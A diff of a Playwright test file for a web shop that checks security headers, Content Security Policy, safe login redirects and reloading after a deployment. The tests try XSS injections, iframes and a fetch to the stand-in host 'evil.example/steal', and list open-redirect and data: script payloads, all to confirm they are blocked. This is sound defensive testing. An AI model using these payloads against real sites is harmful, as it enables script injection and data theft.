@@ -7,73 +7,73 @@ import { appErrors } from '../../src/content/app-errors'
 import { checkout } from '../../src/content/checkout'
 import { termsDocument } from '../../src/content/terms'
 import { accounts, fillCart, fillCheckout } from '../fixtures/shop'
-import { expect, once, test } from '../fixtures/test'
+import { expect, test } from '../fixtures/test'
 
-test(
-  'the headers are those that hosts are told, and the browser obeys them',
-  once,
-  async ({ page, shop, expected }) => {
-    const html = await (await fetch(shop.url)).text()
-    const built = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? ''
-    for (const path of ['/', '/product', '/admin/orders', built]) {
-      const answer = await fetch(`${shop.url}${path}`)
-      for (const [name, value] of Object.entries(headersFor(path, undefined, inlineSources(html))))
-        expect(answer.headers.get(name), `${name} of ${path}`).toBe(value)
-    }
-    const gone = await fetch(`${shop.url}/assets/gone-C0ffee.js`)
-    expect([gone.status, gone.headers.get('cache-control')]).toEqual([404, 'no-store'])
+test('the headers are those that hosts are told, and the browser obeys them', async ({
+  page,
+  shop,
+  expected,
+}) => {
+  const html = await (await fetch(shop.url)).text()
+  const built = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? ''
+  for (const path of ['/', '/product', '/admin/orders', built]) {
+    const answer = await fetch(`${shop.url}${path}`)
+    for (const [name, value] of Object.entries(headersFor(path, undefined, inlineSources(html))))
+      expect(answer.headers.get(name), `${name} of ${path}`).toBe(value)
+  }
+  const gone = await fetch(`${shop.url}/assets/gone-C0ffee.js`)
+  expect([gone.status, gone.headers.get('cache-control')]).toEqual([404, 'no-store'])
 
-    await page.goto('/help')
-    await page.evaluate(async () => {
-      const violations: string[] = []
-      Reflect.set(window, 'violations', violations)
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-        violations.push(effectiveDirective)
-      })
-      // Later: while a test speaks to the page, the browser lets code from text through.
-      const attempt = (run: () => void) =>
-        setTimeout(() => {
-          try {
-            run()
-          } catch {
-            // Refused at once.
-          }
-        })
-      attempt(() => {
-        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="__xss=1">')
-      })
-      attempt(() => {
-        const script = document.createElement('script')
-        script.append('__xss=2')
-        document.body.append(script)
-      })
-      attempt(() => {
-        const script = document.createElement('script')
-        script.setAttribute('src', 'data:text/javascript,__xss=3')
-        document.body.append(script)
-      })
-      attempt(() => {
-        // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
-        globalThis.eval('__xss=4')
-      })
-      attempt(() => {
-        document.body.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }))
-      })
-      attempt(() => {
-        document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example' }))
-      })
-      await fetch('https://evil.example/steal').catch(() => undefined)
+  await page.goto('/help')
+  await page.evaluate(async () => {
+    const violations: string[] = []
+    Reflect.set(window, 'violations', violations)
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      violations.push(effectiveDirective)
     })
-    const refused = ['connect-src', 'frame-src', 'require-trusted-types-for', 'style-src-elem']
-    await expect
-      .poll(() => page.evaluate(() => Reflect.get(window, 'violations')))
-      .toEqual(expect.arrayContaining(refused))
-    expect(await page.evaluate(() => '__xss' in window)).toBe(false)
-    // What the policy refuses is a complaint, and a complaint fails a test: this one expects them.
-    for (const complaint of [/Content Security Policy/, /Trusted/, /evil\.example/, /^thrown: /])
-      expected.complaint(complaint)
-  },
-)
+    // Later: while a test speaks to the page, the browser lets code from text through.
+    const attempt = (run: () => void) =>
+      setTimeout(() => {
+        try {
+          run()
+        } catch {
+          // Refused at once.
+        }
+      })
+    attempt(() => {
+      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="__xss=1">')
+    })
+    attempt(() => {
+      const script = document.createElement('script')
+      script.append('__xss=2')
+      document.body.append(script)
+    })
+    attempt(() => {
+      const script = document.createElement('script')
+      script.setAttribute('src', 'data:text/javascript,__xss=3')
+      document.body.append(script)
+    })
+    attempt(() => {
+      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
+      globalThis.eval('__xss=4')
+    })
+    attempt(() => {
+      document.body.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }))
+    })
+    attempt(() => {
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example' }))
+    })
+    await fetch('https://evil.example/steal').catch(() => undefined)
+  })
+  const refused = ['connect-src', 'frame-src', 'require-trusted-types-for', 'style-src-elem']
+  await expect
+    .poll(() => page.evaluate(() => Reflect.get(window, 'violations')))
+    .toEqual(expect.arrayContaining(refused))
+  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
+  // What the policy refuses is a complaint, and a complaint fails a test: this one expects them.
+  for (const complaint of [/Content Security Policy/, /Trusted/, /evil\.example/, /^thrown: /])
+    expected.complaint(complaint)
+})
 
 const evil = [
   '//evil.example',
@@ -86,7 +86,7 @@ const evil = [
   'data:text/html,<script>__xss=1</script>',
 ]
 
-test('no address leads off the site, signed in or signing in', once, async ({ page, shop }) => {
+test('no address leads off the site, signed in or signing in', async ({ page, shop }) => {
   await page.goto(`/login?next=${encodeURIComponent(evil[0] ?? '')}`)
   await page.getByRole('textbox', { name: account.signIn.email, exact: true }).fill(accounts.shopper.email)
   await page.getByLabel(account.signIn.password, { exact: true }).fill(accounts.shopper.password)
@@ -102,45 +102,45 @@ test('no address leads off the site, signed in or signing in', once, async ({ pa
   expect(await page.evaluate(() => '__xss' in window)).toBe(false)
 })
 
-test(
-  'a file that is gone after a deployment: loaded anew once, with what was typed; never in circles',
-  once,
-  async ({ page, shop, expected }) => {
-    expected.complaint(/^404: GET .*\/assets\//)
-    expected.complaint(/^console: .*(dynamically imported module|policy-pages)/)
-    // A prerendered page cannot hydrate without its code.
-    expected.complaint(/^thrown: Minified React error #(418|422)/)
-    const product = await shop.product()
-    await fillCart(page, { product })
-    await page.goto('/checkout')
-    await fillCheckout(page)
-    let loads = 0
-    page.on('request', (request) => {
-      if (request.isNavigationRequest()) loads += 1
-    })
-    /** The file is not there until the page has been loaded so many times. */
-    const goneUntil = async (load: number) => {
-      loads = 0
-      await page.unrouteAll()
-      await page.route('**/assets/policy-pages-*.js', (route) =>
-        loads < load ? route.fulfill({ status: 404, body: '' }) : route.continue(),
-      )
-    }
-    await goneUntil(1)
-    await page.getByRole('main').getByRole('link', { name: checkout.terms }).click()
-    await expect(page.getByRole('heading', { level: 1, name: termsDocument.title })).toBeVisible()
-    expect(loads).toBe(1)
-    await page.goBack()
-    await expect(page.getByRole('textbox', { name: checkout.fields.city, exact: true })).toHaveValue('Rabat')
+test('a file that is gone after a deployment: loaded anew once, with what was typed; never in circles', async ({
+  page,
+  shop,
+  expected,
+}) => {
+  expected.complaint(/^404: GET .*\/assets\//)
+  expected.complaint(/^console: .*(dynamically imported module|policy-pages)/)
+  // A prerendered page cannot hydrate without its code.
+  expected.complaint(/^thrown: Minified React error #(418|422)/)
+  const product = await shop.product()
+  await fillCart(page, { product })
+  await page.goto('/checkout')
+  await fillCheckout(page)
+  let loads = 0
+  page.on('request', (request) => {
+    if (request.isNavigationRequest()) loads += 1
+  })
+  /** The file is not there until the page has been loaded so many times. */
+  const goneUntil = async (load: number) => {
+    loads = 0
+    await page.unrouteAll()
+    await page.route('**/assets/policy-pages-*.js', (route) =>
+      loads < load ? route.fulfill({ status: 404, body: '' }) : route.continue(),
+    )
+  }
+  await goneUntil(1)
+  await page.getByRole('main').getByRole('link', { name: checkout.terms }).click()
+  await expect(page.getByRole('heading', { level: 1, name: termsDocument.title })).toBeVisible()
+  expect(loads).toBe(1)
+  await page.goBack()
+  await expect(page.getByRole('textbox', { name: checkout.fields.city, exact: true })).toHaveValue('Rabat')
 
-    await page.evaluate(() => sessionStorage.removeItem('reloaded-for-new-version'))
-    await goneUntil(Number.POSITIVE_INFINITY)
-    await page.goto('/privacy')
-    await expect(page.getByRole('heading', { level: 1, name: appErrors.router.title })).toBeVisible()
-    // The visit and one reload.
-    expect(loads).toBe(2)
-    await expect(page.getByRole('banner')).toBeVisible()
-    await page.getByRole('main').getByRole('link', { name: appErrors.router.home }).click()
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
-  },
-)
+  await page.evaluate(() => sessionStorage.removeItem('reloaded-for-new-version'))
+  await goneUntil(Number.POSITIVE_INFINITY)
+  await page.goto('/privacy')
+  await expect(page.getByRole('heading', { level: 1, name: appErrors.router.title })).toBeVisible()
+  // The visit and one reload.
+  expect(loads).toBe(2)
+  await expect(page.getByRole('banner')).toBeVisible()
+  await page.getByRole('main').getByRole('link', { name: appErrors.router.home }).click()
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+})
